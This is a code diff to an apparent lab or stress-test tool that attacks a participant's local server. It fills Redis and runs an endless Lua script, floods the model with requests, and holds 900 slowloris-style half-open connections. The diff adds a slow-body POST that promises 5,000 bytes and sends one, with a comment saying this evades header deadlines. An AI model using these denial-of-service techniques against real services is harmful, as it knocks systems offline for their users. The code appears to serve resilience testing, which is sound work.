@@ -8,8 +8,8 @@ participant's server):
 
 - redis: fill the participant's Redis (``AGENTLAB_STORE``) until it refuses, then run a Lua script that never ends;
 - model: eight requests of 256 tokens at once to the room's model, each sent again as soon as it ends;
-- connections: 900 half-open connections each to the room's site and model (a request line and one header, never
-  finished), opening new ones as the servers close old ones.
+- connections: 900 half-open connections each to the room's site and model, opening new ones as the servers close
+  old ones: half a request line and one header, never finished; half whole headers and one byte of a 5,000-byte body.
 
 Everything it uses is what any participant's kernel has: the hub's variables and their own account.
 """
@@ -27,6 +27,8 @@ import urllib.parse
 import urllib.request
 
 HELD = 900
+SLOW_BODY = (b"POST /mcp HTTP/1.1\r\nHost: 127.0.0.1\r\nContent-Type: application/json\r\n"
+             b"Accept: application/json, text/event-stream\r\nContent-Length: 5000\r\n\r\n{")
 
 
 def redis_attack() -> None:
@@ -78,7 +80,9 @@ def connections_attack() -> None:
             while len(socks) < HELD:
                 try:
                     s = socket.create_connection(("127.0.0.1", port), timeout=2)
-                    s.sendall(b"GET /api/skills HTTP/1.1\r\nHost: x\r\n")
+                    # half never finish their headers (idle); half send whole headers and one byte of a promised
+                    # body (requests in progress, which no header deadline closes)
+                    s.sendall(SLOW_BODY if len(socks) % 2 else b"GET /api/skills HTTP/1.1\r\nHost: x\r\n")
                     s.setblocking(False)
                     socks.append(s)
                 except OSError:
